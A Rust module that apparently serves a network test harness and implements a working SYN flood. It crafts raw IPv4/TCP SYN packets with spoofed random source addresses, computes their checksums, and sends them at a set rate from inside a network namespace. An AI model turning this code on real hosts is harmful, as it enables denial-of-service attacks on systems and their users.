//! A SYN flood: connection attempts from addresses that nobody has.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

use crate::netns::Netns;

/// How often the flood catches up with its rate.
const STEP: Duration = Duration::from_millis(1);

/// Bytes of an IPv4 header and a TCP header without options.
const SYN_BYTES: usize = 40;

/// A flood; dropping it ends it.
#[derive(Debug)]
pub struct Flood {
    stopped: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

/// Where the SYNs of a flood say that they come from.
#[derive(Clone, Copy, Debug)]
pub enum Origin {
    /// From anywhere in 11.0.0.0/8 and up to 126.0.0.0/8.
    Anywhere,
    /// From ports of this address.
    One(Ipv4Addr),
}

impl Flood {
    /// Sends `rate` SYNs a second to `target` from inside `netns`.
    ///
    /// # Errors
    /// If there is no privilege to send such packets.
    pub fn start(netns: &Netns, target: SocketAddrV4, origin: Origin, rate: u32) -> Result<Self> {
        let make = || {
            let raw = (AddressFamily::INET, SocketType::RAW, SocketFlags::CLOEXEC);
            // It implies that packets come with their IP headers.
            socket_with(raw.0, raw.1, raw.2, Some(ipproto::RAW))
        };
        let socket = netns.enter(make)?.context("cannot make a raw socket (root?)")?;
        let (stopped, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stop, count) = (Arc::clone(&stopped), Arc::clone(&sent));
        let thread =
            std::thread::spawn(move || send_all(&socket, target, origin, rate, &stop, &count));
        Ok(Self { stopped, sent, thread: Some(thread) })
    }

    /// SYNs sent so far.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stopped.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn send_all(
    socket: &OwnedFd,
    target: SocketAddrV4,
    origin: Origin,
    rate: u32,
    stopped: &AtomicBool,
    sent: &AtomicU64,
) {
    let begun = Instant::now();
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut number = 0;
    while !stopped.load(Ordering::Relaxed) {
        let due = (begun.elapsed().as_secs_f64() * f64::from(rate)) as u64;
        while number < due && !stopped.load(Ordering::Relaxed) {
            // xorshift64: any spread of addresses and ports does.
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let source = match origin {
                Origin::Anywhere => {
                    let first = 11 + (state >> 32) % 116;
                    Ipv4Addr::from_bits((first as u32) << 24 | state as u32 & 0x00ff_ffff)
                }
                Origin::One(address) => address,
            };
            let port = 1024 + (state >> 40) as u16 % 60_000;
            let syn = syn(SocketAddrV4::new(source, port), target, state as u32);
            // A queue that is full is part of a flood.
            let _ = sendto(socket, &syn, SendFlags::DONTWAIT, &target);
            number += 1;
            sent.store(number, Ordering::Relaxed);
        }
        std::thread::sleep(STEP);
    }
}

/// A SYN as it goes on the wire.
fn syn(source: SocketAddrV4, target: SocketAddrV4, sequence: u32) -> [u8; SYN_BYTES] {
    let mut packet = [0; SYN_BYTES];
    let (ip, tcp) = packet.split_at_mut(20);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(SYN_BYTES as u16).to_be_bytes());
    ip[6] = 0x40;
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&source.ip().octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    // The kernel fills the IP checksum in.
    tcp[..2].copy_from_slice(&source.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = 0x50;
    tcp[13] = 2;
    tcp[14..16].copy_from_slice(&0xffff_u16.to_be_bytes());
    let words = |bytes: &[u8]| -> u32 {
        bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
    };
    let mut sum = words(&ip[12..20]) + 6 + 20 + words(tcp);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    tcp[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    packet
}
